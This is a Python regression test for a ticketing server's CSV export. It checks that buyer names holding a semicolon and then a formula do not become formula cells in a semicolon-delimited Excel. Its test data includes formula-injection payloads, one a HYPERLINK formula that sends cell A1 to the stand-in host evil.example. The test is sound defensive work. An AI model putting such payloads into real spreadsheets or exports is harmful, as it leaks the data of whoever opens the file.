"""A report CSV opened where Excel splits CSV on `;` (French and most European settings: the list separator): a buyer
name holding `;` followed by a formula must not become a formula cell there."""
from __future__ import annotations

from pathlib import Path

from tests.helpers import fete, server_cmd

NAMES = ['Ann;=HYPERLINK("http://evil.example/?x="&A1,"click")', 'Bob; =1+2', 'Cy;"@SUM(1)', "Dee;-2+3",
         "Jean-Paul; Marie"]


def _cells_split_on_semicolons(path: Path) -> list[str]:
    """Every cell as Excel with `;` as its list separator reads the file: each line cut at each `;` (a `"` opens a
    quoted field only at a field's start), leading spaces and that quote dropped."""
    text = path.read_bytes().decode("utf-8-sig")
    return [field.lstrip(' "') for line in text.splitlines() for field in line.split(";")]


def test_attack_a_buyer_named_with_a_semicolon_and_a_formula_is_no_formula_in_a_semicolon_excel(tmp_path):
    """Before: the names were neutralised only at their start (`'=…`), so `Ann;=HYPERLINK(…)` was written as is and
    a French Excel opening the CSV cut it at `;`: a cell `=HYPERLINK("http://evil.example/?x="&A1,"click")` (a link
    sending the cell A1 away), `=1+2`, `@SUM(1)`, `-2+3` computed. Now a formula after a `;` gets its `'` too."""
    data = tmp_path / "server"
    ev = fete(data, "1=Adulte")
    orders = tmp_path / "orders.csv"
    orders.write_text("buyer_name,email\n" + "".join(f'"{n.replace(chr(34), 2 * chr(34))}",x{i}@example.org\n'
                                                      for i, n in enumerate(NAMES)))
    server_cmd(data, "import-orders", str(orders), "--event", str(ev))
    out = tmp_path / "participants.csv"
    server_cmd(data, "report", "participants", "--event", str(ev), "--out", str(out))
    cells = _cells_split_on_semicolons(out)
    formulas = [c for c in cells if c[:1] in ("=", "+", "-", "@")]
    assert formulas == [], formulas
    assert any("Jean-Paul" in c for c in cells) and " Marie" in out.read_text(encoding="utf-8-sig")
